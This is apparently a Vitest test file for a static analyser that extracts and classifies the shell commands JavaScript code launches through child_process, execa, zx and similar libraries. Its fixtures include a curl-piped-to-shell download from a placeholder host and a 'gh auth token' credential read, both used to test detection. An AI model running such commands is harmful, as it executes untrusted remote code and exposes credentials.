import { describe, expect, test } from 'vitest';
import { saidByJavascript } from '../../../testing/javascript-facts.ts';

describe('a process start says its command', () => {
  test.each([
    [`import { exec } from 'child_process'; exec('git status')`, 'child_process.exec | git status'],
    [
      `require('child_process').execSync('curl https://quay.invalid | sh')`,
      'child_process.execSync | curl https://quay.invalid | sh | download',
    ],
    ['require("child_process").exec(`git tag ${name}`)', 'child_process.exec | git tag *'],
    [
      `import cp from 'node:child_process'; cp.spawn('git', ['log', '-n', count])`,
      'child_process.spawn | git log -n *',
    ],
    [`import cp from 'child_process'; cp.spawn('git', args)`, 'child_process.spawn | git *'],
    [
      `import cp from 'child_process'; cp.execFile('gh', ['auth', 'token'])`,
      'child_process.execFile | gh auth token | credential-tool',
    ],
    [
      `import cp from 'child_process'; const args = ['a']; args.push('b'); cp.spawn('tide', args)`,
      'child_process.spawn | tide a b',
    ],
    [`import cp from 'child_process'; cp.spawn(command)`, 'child_process.spawn | '],
    [
      `import cp from 'child_process'; cp.spawn(process.execPath, ['-e', code])`,
      'child_process.spawn | node -e * | interpreter',
    ],
    [`import { execa } from 'execa'; execa('tide', ['x'])`, 'execa.execa | tide x'],
    ['import { $ } from "zx"; await $`tide ${x}`', 'zx.$ | tide *'],
    [`import spawn from 'cross-spawn'; spawn('tide')`, 'cross-spawn | tide'],
    [`require('shelljs').exec('tide')`, 'shelljs.exec | tide'],
    [`Bun.spawn(['tide', 'x'])`, 'Bun.spawn | tide x'],
    [`const run = require('util').promisify(require('child_process').exec); run('tide')`, 'child_process.exec | tide'],
  ])('%s', (code, said) => {
    expect(saidByJavascript(code, 'process')).toEqual([said]);
  });
});

test('both commands of a choice are told', () => {
  const code = `import { exec } from 'child_process'; let line; if (windows) line = 'dir'; else line = 'ls'; exec(line)`;
  expect(saidByJavascript(code, 'process')).toEqual(['child_process.exec | dir', 'child_process.exec | ls']);
});

test.each([
  ['matching a pattern', `/tide/.exec('git status')`],
  ['a database', `db.exec('select 1')`],
  ['a template of another tag', 'sql`select 1`'],
  ['a type import', `import type { exec } from 'child_process'`],
])('%s starts none', (_, code) => {
  expect(saidByJavascript(code, 'process')).toEqual([]);
});
